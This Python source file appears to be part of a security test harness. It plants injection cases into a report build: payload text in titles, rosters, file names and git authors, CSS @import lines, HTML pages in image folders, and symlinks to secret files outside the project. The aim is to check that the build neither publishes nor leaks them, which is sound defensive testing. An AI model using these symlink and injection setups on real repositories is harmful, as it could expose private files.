def apply(root: Path, case: Case, target: Target, payload: str | None = None) -> Written:
    """Write one case into the report at root; `payload` replaces the hostile one (for controls)."""
    text = case.text() if payload is None else payload
    w, path = case.where, root / target.file
    if w == BODY and case.alone:
        front = f"---\nid: alone-{case.token}\ntitle: Case {case.token[3:]}\nowner: secretariat\nstatus: draft\n---\n"
        path.write_text(front, "utf-8")
        return Written(target.file, *_append(path, section(case, text)), False)
    if w in (BODY, WEB_INDEX):
        return Written(target.file, *_append(path, section(case, text) if w == BODY else text), False)
    if w in (TITLE, SUMMARY):
        line = _set_key(path, "title" if w == TITLE else "summary", text)
        return Written(target.file, line, line, False)
    if w in (ROSTER_NAME, ROSTER_AFFILIATION):
        name = text if w == ROSTER_NAME else f"Member {case.token}"
        affiliation = text if w == ROSTER_AFFILIATION else "Example University"
        first, last = _append(
            path,
            f"  - id: {case.token}\n    name: {json.dumps(name)}\n    role: member\n"
            f"    affiliation: {json.dumps(affiliation)}\n",
        )
        _set_key(root / target.host, "owner", case.token)
        return Written(target.file, first, last, False)
    if w == SET_TITLE:
        line = _set_key(path, target.host, text, indent="  ")
        return Written(target.file, line, line, False)
    if w in (REPORT_TITLE, REPORT_SUBTITLE, REPOSITORY):
        key = {REPORT_TITLE: "title", REPORT_SUBTITLE: "subtitle", REPOSITORY: "repository"}[w]
        line = _set_key(path, key, text)
        return Written(target.file, line, line, False)
    if w == FILE_NAME:
        path.write_text(
            f"---\nid: named-{case.token}\ntitle: Case {case.token[3:]}\nowner: secretariat\n"
            "status: draft\n---\n\nA chapter with an unusual file name.\n",
            "utf-8",
        )
        return Written(target.file, 0, 0, True)
    if w == GIT_AUTHOR:
        _append(root / target.host, f"A sentence edited by a contributor ({case.token[3:]}).")
        return Written(target.file, 0, 0, True, author=text)
    return _apply_web(root, case, target, text)


def _apply_web(root: Path, case: Case, target: Target, text: str) -> Written:
    path = root / target.file
    path.parent.mkdir(parents=True, exist_ok=True)
    if case.where == WEB_CSS:
        old = path.read_text("utf-8")
        if text.startswith("@import"):  # only at the top of a stylesheet does @import load anything
            path.write_text(text + "\n" + old, "utf-8")
            return Written(target.file, 1, 1, True)
        return Written(target.file, *_append(path, text), True)
    if case.where == WEB_FILE:
        path.write_text(text, "utf-8")
        return Written(target.file, 0, 0, True, site_files=(case.path,), forbidden=(case.path,))
    if case.where == IMAGE_FILE:  # an SVG figure may be published, if harmless; an HTML page may not
        path.write_text(text, "utf-8")
        site = target.file
        return Written(
            target.file, 0, 0, True, site_files=(site,), forbidden=(site,) if not site.endswith(".svg") else ()
        )
    outside = root.parent / f"outside-{root.name}-{case.token}"
    outside.mkdir(exist_ok=True)
    (outside / "secret.txt").write_bytes(case.secret)
    if case.where in (WEB_LINK, IMAGE_LINK):
        os.symlink(outside / "secret.txt", path)
        files: tuple[str, ...] = (case.path if case.where == WEB_LINK else target.file,)
    elif case.where == WEB_LINK_DIR:
        os.symlink(outside, path, target_is_directory=True)
        files = (f"{case.path}/secret.txt",)
    else:
        os.symlink(outside / "no-such-file.txt", path)
        files = (case.path,)
    return Written(target.file, 0, 0, True, site_files=files, forbidden=files, secrets=(case.secret,))


@dataclass
class Applied:
    written: dict[str, Written] = field(default_factory=dict)  # case name -> what it wrote

    @property
    def secrets(self) -> tuple[bytes, ...]:
        return tuple(s for w in self.written.values() for s in w.secrets)

    @property
    def forbidden(self) -> tuple[str, ...]:
        """Site files that must not exist: pages, scripts and links a case put under web/ or images/."""
        return tuple(f for w in self.written.values() for f in w.forbidden)


def apply_all(root: Path, cases: list[Case], targets: dict[str, Target]) -> Applied:
    """Write several cases (at most one per slot) into one report; in each document the cases that
    may swallow what follows come last. Git authors are the caller's to commit (see `Written.author`)."""
    slots = [targets[c.name].slot for c in cases if targets[c.name].slot]
    assert len(slots) == len(set(slots)), "two cases of one slot in one build"
    applied = Applied()
    for case in sorted(cases, key=lambda c: c.greedy):
        applied.written[case.name] = apply(root, case, targets[case.name])
    return applied
